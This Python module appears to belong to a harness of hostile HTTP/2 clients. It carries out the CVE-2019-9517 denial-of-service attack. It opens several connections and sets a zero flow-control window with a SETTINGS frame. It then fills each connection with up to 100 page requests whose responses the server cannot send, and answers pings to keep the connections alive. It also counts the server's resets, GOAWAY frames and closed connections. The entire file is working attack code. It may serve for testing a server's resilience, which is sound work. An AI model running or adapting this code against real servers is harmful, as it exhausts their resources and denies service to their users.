"""HTTP/2 clients that ask for large pages and leave no room for them (CVE-2019-9517)."""
import asyncio

from client import GONE

from .frames import END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame, head
from .reads import LIST

CONNECTIONS, STREAMS = 8, 100
ACK = 1
NO_ROOM = b"\x00\x04" + bytes(4)


class Connection:
    """One connection, and how many of its requests have no end yet."""

    def __init__(self, hostile, client, reader, writer):
        self.hostile, self.client, self.reader, self.writer = hostile, client, reader, writer
        self.open, self.stream = 0, 1

    async def listen(self):
        """Notes what comes, and answers pings: whoever does not is taken for gone."""
        while True:
            start = await self.reader.readexactly(9)
            payload, kind = await self.reader.readexactly(int.from_bytes(start[:3], "big")), start[3]
            if kind == PING and not start[4] & ACK:
                self.writer.write(frame(PING, ACK, 0, payload))
            if kind == HEADERS:
                self.hostile.seen["heads"] += 1
            if kind == RST_STREAM or (kind == HEADERS and start[4] & END_STREAM):
                self.hostile.seen["ended by the server"] += 1
                self.open -= 1
            if kind == GOAWAY:
                self.hostile.seen["sent away"] += 1

    async def ask(self):
        """Asks for as many pages as one connection may."""
        fields = head(self.client, b"GET", LIST.encode())
        while self.hostile.goes_on():
            if self.open >= STREAMS:
                await asyncio.sleep(0.1)
                continue
            await self.hostile.turn()
            self.writer.write(frame(HEADERS, END_HEADERS | END_STREAM, self.stream, fields))
            self.hostile.seen["asked"] += 1
            self.open, self.stream = self.open + 1, self.stream + 2
            await self.writer.drain()


async def leave_no_room(hostile, _tasks):
    """So many pages on a few connections, of which not a byte may be sent."""
    async def step(number):
        client = hostile.clients[number % len(hostile.clients)]
        reader, writer = await client.connect()
        connection = Connection(hostile, client, reader, writer)
        writer.write(PREFACE + frame(SETTINGS, 0, 0, NO_ROOM))
        listening = asyncio.create_task(connection.listen())
        asking = asyncio.create_task(connection.ask())
        try:
            await asyncio.wait((listening, asking), return_when=asyncio.FIRST_COMPLETED)
        finally:
            listening.cancel()
            asking.cancel()
            outcomes = await asyncio.gather(listening, asking, return_exceptions=True)
            writer.transport.abort()
        hostile.seen["closed"] += any(isinstance(outcome, GONE) for outcome in outcomes)
    await hostile.crowd(CONNECTIONS, step)
